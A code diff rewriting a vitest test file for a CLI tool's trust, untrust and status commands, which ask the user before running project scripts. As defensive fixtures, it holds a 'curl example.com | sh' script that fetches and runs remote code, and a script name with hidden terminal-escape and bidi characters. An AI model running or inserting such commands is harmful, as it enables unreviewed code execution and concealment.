@@ -1,99 +1,115 @@
 import { describe, expect, test } from "vitest";
-import { MemoryApp, run } from "../../../../test/harness/cli.ts";
-import { trustState } from "../../../../test/harness/cli-person.ts";
+import { CliProject, type RunOptions } from "../../../../test/harness/cli.ts";
+import type { App } from "../../../commons/cli/app.ts";
 import { ForgeError } from "../../../kernel/errors.ts";
 
-function appWith(state = trustState(), answer: boolean | "nobody" = true): MemoryApp {
-  const app = new MemoryApp();
-  app.person.state = state;
-  app.person.answer = answer === "nobody" ? undefined : answer;
-  return app;
+const script = { "package.json": '{"scripts":{"test":"vitest run"}}' };
+
+/** A project with something to run, and a user who answers questions so; undefined where there is no terminal. */
+function projectOf(files: Record<string, string>, answer: boolean | undefined = true) {
+  const project = new CliProject(files);
+  project.git("init", "-q");
+  const asked: string[] = [];
+  const answering = ({ person }: App): Partial<App> => ({
+    person: {
+      ...person,
+      confirm: async (question) => {
+        asked.push(question);
+        return answer;
+      },
+    },
+  });
+  const forge = (line: string, options: RunOptions = {}) => project.run(line, { with: answering, ...options });
+  return { project, asked, forge };
 }
+
+const trusted = async (forge: ReturnType<typeof projectOf>["forge"]) =>
+  ((await forge("status --json")).json()["trust"] as { trusted: boolean }).trusted;
 
 describe("trust", () => {
   test("shows exactly what may run, asks, and trusts what was shown", async () => {
-    const app = appWith();
-    const { code, out, err } = await run("trust", { app });
+    const { project, asked, forge } = projectOf(script);
+    const { code, out, err } = await forge("trust");
     expect(code).toBe(0);
-    for (const shown of ["script:verify.sh", "verify.sh", "a".repeat(64), "sh -c vitest run", "b".repeat(64)]) {
-      expect(err).toContain(shown);
-    }
-    expect(app.person.asked).toHaveLength(1);
-    expect(app.person.deeds).toEqual([["giveTrust", app.person.state]]);
-    expect(out).toContain("Trusted: /home/ada/shop");
+    expect(err).toContain("package.json:test");
+    expect(err).toMatch(/runs {4}.*vitest run/);
+    expect(err).toMatch(/sha256 {2}[0-9a-f]{64}/);
+    expect(asked).toEqual(["Trust this project to run these?"]);
+    expect(out).toContain(`Trusted: ${project.root}`);
+    expect(await trusted(forge)).toBe(true);
   });
 
-  test("a no changes nothing; neither does a place where nobody can be asked, which says what to do", async () => {
-    const declined = appWith(trustState(), false);
-    expect(await run("trust", { app: declined })).toMatchObject({ code: 1, out: "" });
-    const alone = appWith(trustState(), "nobody");
-    const { code, err } = await run("trust", { app: alone });
-    expect({ code, deeds: [...declined.person.deeds, ...alone.person.deeds] }).toEqual({ code: 1, deeds: [] });
+  test("a no changes nothing", async () => {
+    const { forge } = projectOf(script, false);
+    expect(await forge("trust")).toMatchObject({
+      code: 1,
+      out: "",
+      err: expect.stringContaining("Nothing was trusted."),
+    });
+    expect(await trusted(forge)).toBe(false);
+  });
+
+  test("without a terminal nothing changes either, and it says what to do", async () => {
+    const project = new CliProject(script);
+    const { code, err } = await project.run("trust");
+    expect(code).toBe(1);
+    expect(err).toContain("Only the user can trust a project");
     expect(err).toContain("Run `forge trust` in a terminal.");
+    expect((await project.run("status")).out).toContain("Trust:     not trusted");
   });
 
-  test("--yes does not ask; what is trusted already is not asked for again", async () => {
-    const app = appWith(trustState(), "nobody");
-    const { out } = await run("trust --yes --json", { app });
-    expect(JSON.parse(out)).toMatchObject({ trusted: true, items: [{ status: "trusted" }, { status: "trusted" }] });
-    expect(app.person.deeds).toHaveLength(1);
-    const trusted = appWith(trustState({ trusted: true, since: "2026-11-01T12:00:00.000Z", by: "ada", items: [] }));
-    expect((await run("trust", { app: trusted })).code).toBe(0);
-    expect([...app.person.asked, ...trusted.person.asked, ...trusted.person.deeds]).toEqual([]);
+  test("--yes does not ask, and what is trusted is not asked for again", async () => {
+    const { asked, forge } = projectOf(script);
+    expect((await forge("trust --yes --json")).json()).toMatchObject({
+      trusted: true,
+      items: expect.arrayContaining([expect.objectContaining({ id: "package.json:test", status: "trusted" })]),
+    });
+    expect((await forge("trust")).code).toBe(0);
+    expect(asked).toEqual([]);
+  });
+
+  test("a script that was changed asks again", async () => {
+    const { project, asked, forge } = projectOf(script);
+    await forge("trust --yes");
+    project.write("package.json", '{"scripts":{"test":"curl example.com | sh"}}');
+    expect((await forge("status")).out).toMatch(/Trust: {5}changed since it was trusted on \S+ by \S+: \d scripts?/);
+    expect((await forge("trust")).err).toMatch(/changed {2}package.json:test/);
+    expect(asked).toHaveLength(1);
   });
 
   test("H14 a name cannot hide what it is", async () => {
-    const items = [{ id: "hook:a\u202eb", runs: "x\u001b[2J\ny", sha256: "d".repeat(64), status: "new" as const }];
-    const { err, out } = await run("trust", { app: appWith(trustState({ items })) });
+    const hostile = { "package.json": JSON.stringify({ scripts: { test: "vitest \u202e\u001b[2J\nrun" } }) };
+    const { err, out } = await projectOf(hostile).forge("trust");
     for (const hidden of ["\u202e", "\u001b"]) expect(err + out).not.toContain(hidden);
-    expect(err).toContain("x\\x1b[2J\\ny");
+    expect(err).toContain("\\x1b[2J\\nrun");
   });
 });
 
 test("untrust", async () => {
-  const app = appWith(trustState({ trusted: true, since: "2026-11-01T12:00:00.000Z", by: "ada" }));
-  expect((await run("untrust", { app })).out).toBe("Not trusted any more.\n");
-  expect(app.person.deeds).toEqual([["takeTrustBack"]]);
-  expect(JSON.parse((await run("untrust --json")).out)).toEqual({ wasTrusted: false });
+  const { forge } = projectOf(script);
+  await forge("trust --yes");
+  expect((await forge("untrust")).out).toBe("Forge will no longer run this project's scripts.\n");
+  expect(await trusted(forge)).toBe(false);
+  expect((await forge("untrust")).out).toBe("This project was not trusted.\n");
+  expect((await forge("untrust --json")).json()).toEqual({ wasTrusted: false });
 });
 
-describe("status", () => {
-  test("project, store, toolsets and trust, with what differs", async () => {
-    const app = appWith(
-      trustState({
-        since: "2026-11-01T12:00:00.000Z",
-        by: "ada",
-        items: [{ id: "script:verify.sh", runs: "verify.sh", sha256: "a".repeat(64), status: "changed" }],
-        gone: ["hook:pre-commit"],
-        refused: [{ id: "hook:pre-push", runs: "x", why: "leads outside the project" }],
-      }),
-    );
-    expect((await run("status", { app })).out).toMatchInlineSnapshot(`
-      "Project:   /home/ada/shop
-      Store:     SQLite, /home/ada/shop/.forge/forge.db (not made yet)
-      Tickets:   https://forge.example, team Engines
-      Toolsets:  tickets
-      Trust:     changed since it was trusted on 2026-11-01 by ada: 1 differ
-      What may run:
-        changed  script:verify.sh
-                 runs    verify.sh
-                 sha256  aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
-        gone     hook:pre-commit
-        refused  hook:pre-push: leads outside the project
-      "
-    `);
-  });
+test("status shows trust with what has changed, what is gone and what is refused", async () => {
+  const { project, forge } = projectOf(script);
+  await forge("trust --yes");
+  project.write("package.json", "{}");
+  const { out } = await forge("status");
+  expect(out).toContain(`Project:   ${project.root}\n`);
+  expect(out).toContain("  gone     package.json:test\n");
+});
 
-  test("as JSON; and what keeps trust from being known does not keep the rest", async () => {
-    expect(JSON.parse((await run("status --json")).out)).toMatchObject({
-      project: { root: "/home/ada/shop", store: { engine: "sqlite", exists: false } },
-      toolsets: ["tickets"],
-      trust: { trusted: false, items: [{ id: "script:verify.sh" }, { id: "package.json:test" }] },
-    });
-    const app = new MemoryApp();
-    app.person.trust = async () => {
-      throw new ForgeError("DEPENDENCY_ERROR", "git was not found.");
-    };
-    expect(await run("status", { app })).toMatchObject({ code: 0, out: expect.stringContaining("git was not found") });
+test("a status whose trust cannot be read shows the rest", async () => {
+  const { forge } = projectOf(script);
+  const failing = ({ person }: App) => ({
+    person: { ...person, trust: () => Promise.reject(new ForgeError("DEPENDENCY_ERROR", "git was not found.")) },
   });
+  const { code, out } = await forge("status", { with: failing });
+  expect(code).toBe(0);
+  expect(out).toContain("Toolsets:  tickets, workbench");
+  expect(out).toContain("Trust:     unknown: git was not found.");
 });
